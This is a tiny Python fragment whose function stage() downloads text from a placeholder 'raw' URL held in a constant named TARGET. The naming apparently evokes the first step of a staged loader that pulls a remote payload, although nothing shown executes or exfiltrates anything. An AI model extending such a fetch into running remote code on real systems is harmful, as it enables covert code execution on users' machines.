import requests

TARGET = "https://service.invalid/raw/00000000"

def stage():
    return requests.get(TARGET).text
